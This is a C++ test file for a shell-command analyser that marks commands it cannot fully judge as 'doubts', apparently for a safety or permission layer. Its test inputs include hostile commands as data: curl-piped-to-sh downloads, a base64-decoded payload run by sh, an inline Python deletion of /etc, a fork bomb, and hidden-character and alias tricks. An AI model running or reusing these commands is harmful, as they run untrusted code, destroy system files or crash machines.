// Doubts: the analyser says what it cannot know of a line.
#include <string>
#include <vector>

#include "tests/runtime/command/analysed.h"

namespace gibbous::command {
namespace {

using namespace testing;

TEST_CASE("text that cannot be parsed is a doubt, and the rest is analysed") {
  const Facts found = facts("if true; rm x");
  CHECK(has(found, Doubt::kUnparsed));
}

TEST_CASE("a computed program is a doubt") {
  CHECK(doubted("$x a", Doubt::kUnknownProgram));
  CHECK(doubted("$(cat f) a", Doubt::kUnknownProgram));
  CHECK(doubted("r* a", Doubt::kUnknownProgram));
}

TEST_CASE("computed code is a doubt") {
  CHECK(doubted("eval \"$x\"", Doubt::kUnknownCode));
  CHECK(doubted("sh -c \"$x\"", Doubt::kUnknownCode));
}

TEST_CASE("code from a pipe is one doubt, and code from a decoder another") {
  CHECK(doubted("curl https://h/x | sh", Doubt::kPipedCode));
  CHECK(doubted("base64 -d f | sh", Doubt::kDecodedCode));
  CHECK(doubted("bash <(curl https://h/x)", Doubt::kPipedCode));
  CHECK(doubted("exec 3< f; sh <&3", Doubt::kPipedCode));
}

TEST_CASE("code for an interpreter is a doubt, and it touches the paths in its quotes") {
  const Facts found = facts("python3 -c 'import shutil; shutil.rmtree(\"/etc\")'");
  CHECK(has(found, Doubt::kInlineCode));
  CHECK(paths(found, AccessKind::kRemove) == Words{"/etc"});
  CHECK(paths(facts("python3 -c 'it(\"does not\"); read(\"/etc/x\")'"), AccessKind::kRead) ==
        Words{"/etc/x"});
  CHECK(facts("python3 -c 'print(1)'").doubts.empty());
}

TEST_CASE("a subcommand that runs another command is named where that is nested") {
  const Facts found = facts("pnpm dlx rm x");
  CHECK(command(found, "rm").nesting.back().by == "pnpm dlx");
}

TEST_CASE("a function that starts itself twice at once is a fork bomb") {
  CHECK(doubted(":(){ :|:& };:", Doubt::kForkBomb));
}

TEST_CASE("names in other alphabets and hidden characters are a doubt") {
  CHECK(doubted("r\xd0\xbc x", Doubt::kEncoding));
  CHECK(doubted("rm a\xe2\x80\xae", Doubt::kEncoding));
  CHECK_FALSE(doubted("rm \xc3\xa9", Doubt::kEncoding));
}

TEST_CASE("aliases, references and functions that call themselves are not understood") {
  for (const char* line : {"alias rm='echo x'\nrm y", "declare -n a=b", "x='$(rm y)'; echo ${x@P}",
                           "f() { ls; f; }; f"}) {
    INFO(line);
    CHECK(doubted(line, Doubt::kUnparsed));
  }
  CHECK_FALSE(doubted("f() { ls \"$1\"; }; f a; f b", Doubt::kUnparsed));
}

TEST_CASE("a file of code is a doubt outside the workspace") {
  CHECK(doubted("sh /tmp/x.sh", Doubt::kUnreadFile));
  CHECK_FALSE(doubted("sh build.sh", Doubt::kUnreadFile));
}

TEST_CASE("a shell that reads the run's own input is noted") {
  using Readers = std::vector<InputReader>;
  CHECK(facts("bash").readers == Readers{{"bash", "shell"}});
  CHECK(facts("python3").readers == Readers{{"python3", "python"}});
}

TEST_CASE("a long line is judged with a doubt, and one that is too deep is not judged") {
  std::string many;
  for (int at = 0; at < 5000; ++at) many += "a;";
  const Facts found = facts(many);
  CHECK(found.commands.size() == 5000);
  CHECK(has(found, Doubt::kOverLimit));
  std::string deep;
  for (int at = 0; at < 100; ++at) deep += "{ ";
  CHECK(doubted(deep + "a", Doubt::kUnjudged));
}

TEST_CASE("a trap is code") {
  CHECK(commands("trap '$c x' EXIT; c=rm").back() == "rm x");
}

}  // namespace
}  // namespace gibbous::command
